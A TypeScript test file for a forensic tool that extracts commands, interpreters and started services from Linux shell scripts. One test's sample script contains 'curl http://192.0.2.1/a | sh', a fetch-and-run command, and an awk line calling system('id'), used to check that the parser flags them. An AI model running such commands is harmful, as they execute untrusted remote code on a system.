import { describe, expect, it } from 'vitest';
import { memoryEvidence } from '../../../main/evidence/memory-evidence.ts';
import { scriptCommands } from '../../../main/sources/linux/script-commands.ts';
import { startedUnit } from '../../../main/sources/linux/started-unit.ts';
import { UnixFiles } from '../../../main/sources/unix/file-lookup.ts';
import { MAX_SCRIPT_LINES, MAX_SCRIPT_PAYLOADS } from '../../../shared/limits.ts';
import { LINUX_VOLUME } from '../../support/linux-source.ts';

const files = new UnixFiles(
  memoryEvidence({ '/usr/bin/python3': '', '/usr/sbin/ip': '', '/bin/sed': '' }),
  LINUX_VOLUME,
);

function run(script: string) {
  const found = scriptCommands(script, { files });
  return {
    ...found,
    shown: found.payloads.map(({ role, from, path, raw }) => `${role} [${from}] ${path || raw}`),
  };
}

describe('scriptCommands', () => {
  it('leaves utilities, functions and unknown names out', () => {
    const { shown, lines } = run(
      'start() {\n  echo x | sed s/a/b/\n  log_daemon_msg x\n  foo --bar\n}\nstart\nawk "{print}"\nexit 0\n',
    );
    expect(shown).toEqual([]);
    expect(lines).toContain('foo --bar');
    expect(lines).not.toContain('exit 0');
  });

  it('keeps paths, interpreters, telling programs and what the shell replaces itself with', () => {
    const { shown } = run(
      'ip link set up\n/opt/x &\nexec foo\ncurl http://192.0.2.1/a | sh\nawk \'BEGIN{system("id")}\'\neval /opt/y\n. /opt/lib\n. /etc/default/none\n',
    );
    expect(shown).toEqual([
      'script [line 1] /usr/sbin/ip',
      'script [line 2] /opt/x',
      'script [line 3] foo',
      'script [line 4] curl',
      'script [line 4] sh',
      'script [line 5] awk',
      'inline-code [line 5] BEGIN{system("id")}',
      'script [line 6] /opt/y',
      'hosted-program [line 7] /opt/lib',
    ]);
  });

  it('follows variables in the order of the lines', () => {
    const { shown } = run('A=/opt\nB=$A/x\n$B -v\nA=/tmp\n$A/y\n$UNKNOWN z\nDAEMON="$A/d"\n');
    expect(shown).toEqual([
      'script [line 3] /opt/x',
      'script [line 5] /tmp/y',
      'hosted-program [DAEMON] /tmp/d',
    ]);
  });

  it('says when it left something out', () => {
    expect(run('/opt/x\n').cut).toBe(false);
    const many = Array.from({ length: MAX_SCRIPT_PAYLOADS + 5 }, (_, at) => `/opt/${at}`).join('\n');
    expect(run(many)).toMatchObject({ cut: true, payloads: { length: MAX_SCRIPT_PAYLOADS } });
    expect(run('\n'.repeat(MAX_SCRIPT_LINES + 2)).cut).toBe(true);
  });
});

describe('startedUnit', () => {
  it.each([
    ['systemctl start a', 'a.service'],
    ['/bin/systemctl --no-block restart a.timer b', 'a.timer b.service'],
    ['sudo systemctl enable --now x@1', 'x@1.service'],
    ['service x start', 'x.service'],
    ['rc-service x restart', 'x.service'],
    ['/etc/init.d/x start', 'x.service'],
    ['initctl start x', 'x.service'],
    ['systemctl stop x', null],
    ['systemctl daemon-reload', null],
    ['service x status', null],
    ['/opt/x start', null],
    ['', null],
  ])('%s', (command, unit) => {
    expect(startedUnit(command.split(' ').filter((word) => word !== ''))).toBe(unit);
  });
});
